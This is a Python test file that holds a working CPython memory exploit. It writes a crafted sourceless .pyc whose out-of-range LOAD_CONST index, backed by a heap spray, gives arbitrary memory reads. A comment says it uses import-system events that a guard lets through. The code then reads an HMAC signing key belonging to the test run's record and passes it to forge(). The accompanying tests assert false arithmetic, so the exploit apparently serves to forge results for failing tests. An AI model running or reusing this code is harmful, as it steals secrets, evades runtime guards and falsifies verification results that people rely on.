# The same read primitive with neither marshal.loads nor FunctionType called by the package: a sourceless .pyc,
# whose code the import system unmarshals and runs itself (events the guard lets through for importlib).
import dis, importlib, importlib.util, marshal, os, struct, sys, tempfile

from attack_kit import forge, the_record

def _template():
    global _G
    _G = 1; _G = 1; _G = 1
    return None

_keep = []
SPRAY = 1 << 26

def module_code(index):
    code = getattr(_template, "__code__")
    old, op = code.co_code, dis.opmap
    index &= 0xFFFFFFFF
    new = bytes([op["RESUME"], 0, op["EXTENDED_ARG"], index >> 24 & 255, op["EXTENDED_ARG"], index >> 16 & 255,
                 op["EXTENDED_ARG"], index >> 8 & 255, op["LOAD_CONST"], index & 255, op["STORE_GLOBAL"], 0,
                 op["LOAD_CONST"], 0, op["RETURN_VALUE"], 0])
    new += bytes([op["NOP"], 0]) * ((len(old) - len(new)) // 2)
    data = marshal.dumps(code)
    return data.replace(old, new)

def attack(request):
    fake = struct.pack("<QQqqQQq", 1 << 40, id(bytearray), (1 << 62), (1 << 62), 0, 0, 0)
    holder = struct.pack("<Q", id(fake) + 32) * (SPRAY // 8)
    _keep.extend((fake, holder))
        # (no marshal.loads here: a fresh small tuple lands in the same arenas; the 64 MiB spray absorbs the difference)
    guess = id(tuple([object(), object()]))
    index = (id(holder) + 32 + SPRAY // 2 - (guess + 24)) // 8
    where = tempfile.mkdtemp()
    with open(os.path.join(where, "crafted_mod.pyc"), "wb") as f:
        f.write(importlib.util.MAGIC_NUMBER + b"\0" * 12 + module_code(index))
    sys.path.insert(0, where)
    mod = importlib.import_module("crafted_mod")
    mem = mod._G
    print("reader", type(mem), flush=True)
    import _hashlib
    raw = bytes(mem[id(the_record(request)): id(the_record(request)) + 1024])
    words = [int.from_bytes(raw[i:i + 8], "little") for i in range(0, len(raw), 8)]
    pointer = words[words.index(id(_hashlib.hmac_digest)) - 1]
    key = bytes(mem[pointer + 32: pointer + 64])
    print("key", key.hex(), flush=True)
    forge(key)

def test_wrong(request):
    attack(request)
    assert 1 + 1 == 3

def test_also_wrong():
    assert 2 + 2 == 5
